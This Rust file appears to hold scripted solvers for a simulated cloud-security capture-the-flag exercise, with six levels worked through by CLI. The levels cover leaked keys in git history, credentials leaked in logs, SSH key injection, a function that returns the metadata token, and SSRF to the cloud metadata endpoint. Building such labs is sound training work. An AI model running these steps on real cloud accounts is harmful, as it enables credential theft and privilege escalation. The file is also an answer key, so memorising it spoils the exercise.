//! One scripted solver per level, each following the level's walkthrough
//! with CLI verbs only. Every solver returns the flag it found.

use serde_json::Value;
use thunder_cli::ExitCode;

use super::{find_flag, Player, PROJECT};

pub type Solver = fn(&Player) -> Result<String, String>;

pub const SOLVERS: &[(&str, Solver)] = &[
    ("thunder/a1openbucket", a1openbucket),
    ("thunder/a2finance", a2finance),
    ("thunder/a3password", a3password),
    ("thunder/a4error", a4error),
    ("thunder/a5power", a5power),
    ("thunder/a6container", a6container),
];

fn need<T>(v: Option<T>, what: &str) -> Result<T, String> {
    v.ok_or_else(|| format!("could not find {what}"))
}

fn items(v: &Value) -> Vec<Value> {
    v["items"].as_array().cloned().unwrap_or_default()
}

fn names(v: &Value) -> Vec<String> {
    items(v).iter().filter_map(|x| x.as_str().map(str::to_string)).collect()
}

/// Creates the level and activates the handout credential, if any.
fn start(p: &Player, level: &str) -> Result<Value, String> {
    let info = p.json(&["create", level, "--project", PROJECT])?;
    if let Some(account) = info["handout_account"].as_str() {
        let key = format!("{}.json", account.split('@').next().unwrap_or_default());
        p.ok(&["auth", "activate-key", &key])?;
    }
    Ok(info)
}

fn submit(p: &Player, flag: &str) -> Result<String, String> {
    p.ok(&["submit", flag])?;
    Ok(flag.to_string())
}

fn bucket_with(p: &Player, prefix: &str) -> Result<String, String> {
    let buckets = names(&p.json(&["buckets", "list"])?);
    need(
        buckets.into_iter().find(|b| b.starts_with(prefix)),
        &format!("a {prefix}* bucket"),
    )
}

fn permissions(p: &Player) -> Result<Vec<String>, String> {
    let v = p.json(&["iam", "test-permissions"])?;
    Ok(v["permissions"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|x| x.as_str().map(str::to_string))
        .collect())
}

pub fn a1openbucket(p: &Player) -> Result<String, String> {
    start(p, "thunder/a1openbucket")?;
    let bucket = bucket_with(p, "a1-bucket-")?;
    let listing = p.json(&["objects", "list", &bucket])?;
    let secret = need(
        items(&listing)
            .iter()
            .filter_map(|o| o["name"].as_str())
            .find(|n| *n != "README.txt")
            .map(str::to_string),
        "the secret object",
    )?;
    let flag = p.ok(&["objects", "cat", &bucket, &secret])?;
    submit(p, &flag)
}

pub fn a2finance(p: &Player) -> Result<String, String> {
    start(p, "thunder/a2finance")?;
    let held = permissions(p)?;
    if !held.iter().any(|x| x == "sourcerepo.repos.get") {
        return Err(format!("handout lacks repo access: {held:?}"));
    }
    let notes = bucket_with(p, "a2-notes-")?;
    for o in items(&p.json(&["objects", "list", &notes])?) {
        p.ok(&["objects", "cat", &notes, o["name"].as_str().unwrap_or_default()])?;
    }
    let repo = need(names(&p.json(&["repo", "list"])?).into_iter().next(), "a repository")?;
    let log = items(&p.json(&["repo", "log", &repo])?);
    let initial = need(
        log.iter()
            .find(|c| c["parent_id"].is_null())
            .and_then(|c| c["commit_id"].as_str()),
        "the initial commit",
    )?
    .to_string();
    let files = p.json(&["repo", "show", &repo, &initial])?;
    let key_path = need(
        files["files"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|f| f.as_str())
            .find(|f| f.contains("key")),
        "a key file in the initial commit",
    )?
    .to_string();
    let key = p.ok(&["repo", "show", &repo, &initial, &key_path])?;
    p.write("ops.key", &key)?;
    let instances = items(&p.json(&["instances", "list"])?);
    let vm = need(
        instances
            .iter()
            .find(|i| i["metadata"]["ssh-keys"].is_string())
            .and_then(|i| i["name"].as_str()),
        "an instance with ssh keys",
    )?
    .to_string();
    let token = p.ok(&["ssh", &vm, "--key", "ops.key", "--exec", "token"])?;
    p.ok(&["auth", "activate-token", token.trim()])?;
    let logs = p.ok(&["logs", "read"])?;
    let flag = need(find_flag(&logs), "the flag in the log entries")?;
    submit(p, &flag)
}

pub fn a3password(p: &Player) -> Result<String, String> {
    start(p, "thunder/a3password")?;
    let functions = items(&p.json(&["functions", "list"])?);
    let f = need(functions.first(), "a function")?;
    let name = f["name"].as_str().unwrap_or_default().to_string();
    let url = f["url"].as_str().unwrap_or_default().to_string();
    let denied = p.fails(&["functions", "call", &name], ExitCode::Api)?;
    if !denied.contains("auth_required") {
        return Err(format!("expected auth_required, got {denied}"));
    }
    let id = p.ok(&["auth", "identity-token", &url])?.trim().to_string();
    let usage = p.ok(&["functions", "call", &name, "--id-token", &id])?;
    if !usage.contains("password") {
        return Err(format!("expected a hint about a password field: {usage}"));
    }
    let source = p.ok(&["functions", "source", &name])?;
    let var = need(
        source
            .split("env(\"")
            .skip(1)
            .filter_map(|rest| rest.split('"').next())
            .find(|v| source.contains(&format!("param(\"password\") == env(\"{v}\")"))),
        "the password variable",
    )?
    .to_string();
    let described = p.json(&["functions", "describe", &name])?;
    let password = need(described["env"][&var].as_str(), "the password value")?.to_string();
    let body = p.ok(&[
        "functions",
        "call",
        &name,
        "--id-token",
        &id,
        "--param",
        &format!("password={password}"),
    ])?;
    let flag = need(find_flag(&body), "the flag in the response")?;
    submit(p, &flag)
}

pub fn a4error(p: &Player) -> Result<String, String> {
    let info = start(p, "thunder/a4error")?;
    // The intro names the function; its URL follows the /fn/<project>/<name> scheme.
    let name = "a4-status";
    if !info["intro"].as_str().unwrap_or_default().contains(name) {
        return Err("the intro does not name the function".into());
    }
    let url = format!("/fn/{PROJECT}/{name}");
    let id = p.ok(&["auth", "identity-token", &url])?.trim().to_string();
    p.ok(&["functions", "call", name, "--id-token", &id])?;
    p.fails(
        &["functions", "call", name, "--id-token", &id, "--param", "mode=bogus"],
        ExitCode::Api,
    )?;
    let logs = p.json(&["logs", "read", "--logger", name])?;
    let leaked = need(
        logs["entries"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|e| e["message"].as_str())
            .flat_map(str::split_whitespace)
            .find(|w| w.starts_with("at."))
            .map(str::to_string),
        "a credential in the error log",
    )?;
    p.ok(&["auth", "activate-token", &leaked])?;
    let held = permissions(p)?;
    if !held.iter().any(|x| x == "compute.instances.setMetadata") {
        return Err(format!("leaked credential cannot edit instances: {held:?}"));
    }
    let vm = need(
        items(&p.json(&["instances", "list"])?)
            .first()
            .and_then(|i| i["name"].as_str().map(str::to_string)),
        "an instance",
    )?;
    p.ok(&["keys", "generate", "me.key"])?;
    p.ok(&["instances", "add-ssh-key", &vm, "--user", "me", "--key", "me.key.pub"])?;
    let token = p.ok(&["ssh", &vm, "--key", "me.key", "--exec", "token"])?;
    p.ok(&["auth", "activate-token", token.trim()])?;
    let bucket = bucket_with(p, "a4-secret-")?;
    let flag = p.ok(&["objects", "cat", &bucket, "secret.txt"])?;
    submit(p, &flag)
}

pub fn a5power(p: &Player) -> Result<String, String> {
    start(p, "thunder/a5power")?;
    if !permissions(p)?.iter().any(|x| x == "cloudfunctions.functions.update") {
        return Err("handout cannot update functions".into());
    }
    let f = need(items(&p.json(&["functions", "list"])?).first().cloned(), "a function")?;
    let name = f["name"].as_str().unwrap_or_default().to_string();
    p.write(
        "steal.dsl",
        "respond(metadata(\"instance/service-accounts/default/token?format=text\"))\n",
    )?;
    p.ok(&["functions", "deploy", &name, "--source", "steal.dsl"])?;
    let vm_token = p.ok(&["functions", "call", &name])?;
    p.ok(&["auth", "activate-token", vm_token.trim()])?;
    let held = permissions(p)?;
    if !held.iter().any(|x| x == "resourcemanager.projects.setIamPolicy") {
        return Err(format!("function account cannot set the policy: {held:?}"));
    }
    let account = need(
        f["runtime_account"].as_str().map(str::to_string),
        "the function's runtime account",
    )?;
    let mut policy = p.json(&["iam", "get-policy"])?;
    policy["bindings"]
        .as_array_mut()
        .ok_or("policy has no bindings")?
        .push(serde_json::json!({"role": "roles/storage.objectViewer", "members": [account]}));
    p.write("policy.json", &policy.to_string())?;
    p.ok(&["iam", "set-policy", "policy.json"])?;
    let bucket = bucket_with(p, "a5-secret-")?;
    let flag = p.ok(&["objects", "cat", &bucket, "secret.txt"])?;
    submit(p, &flag)
}

pub fn a6container(p: &Player) -> Result<String, String> {
    start(p, "thunder/a6container")?;
    let instances = items(&p.json(&["instances", "list"])?);
    let web = need(
        instances.iter().find(|i| i["container_image"].is_string()),
        "a container instance",
    )?;
    let vm = web["name"].as_str().unwrap_or_default().to_string();
    let image = web["container_image"].as_str().unwrap_or_default().to_string();
    p.ok(&["images", "pull", &image, "--extract", "webapp"])?;
    let server = p.read("webapp/app/server.dsl")?;
    if !server.contains("\"/proxy\"") {
        return Err("no hidden proxy route in the image".into());
    }
    let url = "url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token";
    let stolen = p.ok(&[
        "instances",
        "browse",
        &vm,
        "/proxy",
        "--param",
        url,
        "--header",
        "Metadata-Flavor: Google",
    ])?;
    let v: Value = serde_json::from_str(&stolen).map_err(|_| format!("proxy answered: {stolen}"))?;
    let token = match v["access_token"].as_str() {
        Some(t) => t.to_string(),
        None => {
            return Err(format!(
                "metadata server refused: {}",
                v["error"]["code"].as_str().unwrap_or("?")
            ))
        }
    };
    p.ok(&["auth", "activate-token", &token])?;
    if !permissions(p)?.iter().any(|x| x == "storage.objects.get") {
        return Err("stolen credential cannot read objects".into());
    }
    let bucket = bucket_with(p, "a6-cards-")?;
    let name = need(
        items(&p.json(&["objects", "list", &bucket])?)
            .first()
            .and_then(|o| o["name"].as_str().map(str::to_string)),
        "an object",
    )?;
    let cards = p.ok(&["objects", "cat", &bucket, &name])?;
    let flag = need(find_flag(&cards), "the flag among the cards")?;
    submit(p, &flag)
}
